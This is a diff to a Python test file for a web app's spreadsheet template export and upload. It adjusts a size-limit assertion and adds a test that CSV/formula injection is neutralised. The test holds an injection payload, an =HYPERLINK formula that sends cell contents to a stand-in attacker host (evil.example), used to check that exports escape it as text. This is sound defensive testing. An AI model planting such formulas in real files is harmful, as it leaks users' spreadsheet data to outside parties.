@@ -524,8 +524,8 @@ def test_a_50_mb_file_is_refused_by_its_size_before_parsing(app, db, plant, mana
     started = time.monotonic()
     response = manager.post(URL, data={"csrf_token": token, "file": (io.BytesIO(bytes(50 * 1024 * 1024)), "big.xlsx")},
                             content_type="multipart/form-data")
-    assert response.status_code == 413
-    assert "files up to 5.0 MB are accepted" in _text(response)
+    assert response.status_code == 413  # the platform's limit on any request (issue 16 #3) answers first
+    assert "12 MB" in _text(response)
     assert time.monotonic() - started < 10
     assert _counts(db) == before
 
@@ -802,3 +802,30 @@ def test_an_upload_racing_another_for_a_new_month_is_refused_whole(db, manager, 
     assert response.status_code == 409
     assert "at the same moment" in _text(response)
     assert _counts(db) == before
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_a_source_named_like_a_formula_is_text_in_the_template_and_imports_back(app, db, plant, manager, fmt):
+    """Issue 16 #2: a name starting with = is written as text (with an apostrophe), and the app accepts its file."""
+    plant["sources"]["diesel"].name = FORMULA_NAME
+    plant["facility"].name = "+厂区"
+    db.session.commit()
+    data = _template(manager, fmt=fmt)
+    if fmt == "xlsx":
+        book = load_workbook(io.BytesIO(data))
+        cells = [c for row in book[ACTIVITY].iter_rows() for c in row if isinstance(c.value, str)]
+        assert not [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith(("=", "+", "-", "@"))]
+        assert "'" + FORMULA_NAME in {c.value for c in cells} and "'+厂区" in {c.value for c in cells}
+        upload = _bytes(_filled(plant, data))
+    else:
+        text = data.decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text)))
+        assert not [v for row in rows for v in row if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert "'" + FORMULA_NAME in {v for row in rows for v in row}
+        upload = ("\ufeff" + _csv_filled(plant, text)).encode("utf-8")
+    response = _upload(manager, upload, f"月报.{fmt}")
+    assert response.status_code == 200 and 'data-testid="import-done"' in _text(response), _text(response)[:3000]
+    assert _current_total(db, _filing(db, plant["org"])) == EXAMPLE_7_TOTAL
